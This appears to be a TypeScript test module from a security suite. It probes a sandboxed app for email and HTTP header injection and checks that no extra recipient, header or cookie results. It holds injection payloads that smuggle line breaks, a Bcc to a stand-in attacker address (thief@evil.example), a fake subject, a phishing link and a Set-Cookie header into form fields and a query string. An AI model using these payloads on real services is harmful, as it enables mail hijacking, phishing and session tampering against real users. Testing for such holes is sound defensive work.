import { randomBytes } from 'node:crypto';
import { type Attack, forEachConcurrently } from '../attack.ts';
import type { AttackEnvironment } from '../attack-environment.ts';
import { newAddress, newMember } from '../member.ts';
import { sendCall } from '../send-call.ts';

interface Mail {
  to: string[];
  subject: string;
  text: string;
}

const lineBreaks = ['\r\n', '\n', '\r', '\u2028', '\u0085', '%0d%0a'];
const injectedHeaders = (end: string) =>
  `${end}Bcc: thief@evil.example${end}Subject: PWNED${end}${end}Click https://evil.example`;

async function listMails({ sandboxUrl }: AttackEnvironment): Promise<Mail[]> {
  return (await (await fetch(`${sandboxUrl}/inbox.json`)).json()).mails;
}

/** Line breaks in fields that reach mails or response headers: no other recipient gets mail, and no header is added. */
export const headerInjection: Attack = {
  name: 'header injection',
  async run(environment, record) {
    const route = (name: string) => {
      const found = environment.routes.find((one) => one.name === `account ${name}`);
      if (!found) throw new Error(`There is no call ${name}.`);
      return found;
    };
    const member = await newMember(environment);
    await forEachConcurrently(lineBreaks, 3, async (end) => {
      const local = `mail-${randomBytes(4).toString('hex')}`;
      const own = `${local}@example.com`;
      const profile = { fullName: `Tom${injectedHeaders(end)}`.slice(0, 120) };
      const password = 'correct horse';
      const asked = [
        ['authService.signUpWithEmail', { email: own, password, profile }],
        ['authService.signUpWithEmail', { email: `${own}${injectedHeaders(end)}`, password }],
        ['authService.signUpWithEmail', { email: `${local},thief@evil.example`, password }],
        ['authService.signUpWithEmail', { email: `"a${end}"@example.com`, password }],
        [
          'authService.resetPassword',
          { email: `${own}${injectedHeaders(end)}`, resetUrl: `https://evil.example/${end}` },
        ],
        ['resendConfirmation', { email: `${own}, thief@evil.example` }],
        ['requestEmailChange', { email: `${own}${injectedHeaders(end)}`, currentPassword: member.password }],
        ['withdraw', { contractId: 'in_1', name: `Tom${injectedHeaders(end)}` }],
      ] as const;
      for (const [name, payload] of asked) {
        const action = name.split('.')[1];
        const body = action ? { action, payload } : payload;
        const { status, headers } = await sendCall(environment, route(name), { body }, member);
        record(`${name} ${JSON.stringify(payload)} answered ${status}`, status > 0 && status < 500 && !headers.bcc);
      }
      const query = encodeURIComponent(`x${end}set-cookie: odd=1`);
      const path = `/v1/marketing/claims?page=${query}`;
      const answer = await member.send({ method: 'GET', path, headers: { 'x-forwarded-for': newAddress() } });
      record(`${path} set a cookie`, !(answer.headers['set-cookie'] ?? []).join().includes('odd=1'));
    });
    await new Promise((resolve) => setTimeout(resolve, 1000));
    for (const { to, subject, text } of await listMails(environment)) {
      const clean = !to.join().includes('evil.example') && !subject.includes('PWNED') && !/evil\.example/.test(text);
      record(`a mail to ${to.join(', ')} says ${subject}: ${text.slice(0, 100)}`, clean);
    }
  },
};
